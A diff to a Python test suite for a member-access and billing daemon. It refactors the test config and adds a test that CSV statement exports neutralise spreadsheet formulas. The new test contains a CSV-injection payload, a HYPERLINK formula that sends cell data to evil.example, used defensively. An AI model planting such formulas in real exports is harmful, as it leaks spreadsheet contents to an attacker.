@@ -11,23 +11,9 @@ import sys
 import time
 
 sys.path.insert(0, os.path.dirname(__file__))
-from portier_harness import Daemon, DaemonTest, main, wait_until  # noqa: E402
+from portier_harness import Daemon, DaemonTest, build_config, main, wait_until  # noqa: E402
 
-CONFIG = """
-[site]
-id = lyon
-timezone = Europe/Paris
-
-[daemon]
-state_dir = {dir}/state
-control_socket = {dir}/ctl.sock
-log_level = debug
-
-[hardware]
-backend = sim
-debounce_ms = 0
-sim_state_dir = {dir}/relays
-
+SECTIONS = """
 [metering]
 day_starts = 04:00
 closing = {closing}
@@ -62,7 +48,8 @@ class MeteringBase(DaemonTest):
 
     def setUp(self):
         self.d = Daemon(config_text="placeholder")
-        self.d.write_config(CONFIG.format(dir=self.d.dir, closing=self.closing))
+        self.d.write_config(build_config(self.d.dir, SECTIONS.format(closing=self.closing),
+                                         site="lyon"))
         self.d.start()
         ok = self.d.ok
         ok({"cmd": "plan.add", "name": "nomad"})
@@ -260,6 +247,23 @@ class MeteringTest(MeteringBase):
         self.assertEqual([(r["member"], r["amount"]) for r in summary], [("Alice", "6.00")])
         st = json.loads(self.d.ctl("statement", "--period", period, "--format", "json")[1])
         self.assertEqual(st["totals"]["amount_cents"], 600)
+
+    def test_statement_csv_writes_formulas_as_text(self):
+        # A member who names themselves as a formula must not run it in the spreadsheet
+        # of whoever opens the statement (OWASP "CSV injection"): the cell starts with an
+        # apostrophe; the other cells are written as before.
+        name = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
+        self.d.ok({"cmd": "member.add", "name": name, "plan": "nomad"})
+        self.d.ok({"cmd": "card.add", "member": name, "uid": "04C0C0C0"})
+        self.tap("in", "04C0C0C0")
+        period = self.period()
+        for fmt, delimiter in (("csv", ","), ("csv-fr", ";")):
+            code, out, _ = self.d.ctl("statement", "--period", period, "--format", fmt)
+            self.assertEqual(code, 0)
+            self.assertIn("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1", out)
+            rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff")), delimiter=delimiter))
+            self.assertEqual([r["member"] for r in rows], ["'" + name])
+            self.assertEqual(rows[0]["amount"], "0.00" if fmt == "csv" else "0,00")  # plan day
 
     # -- ledger --
     def test_ledger_verify_names_an_altered_entry(self):
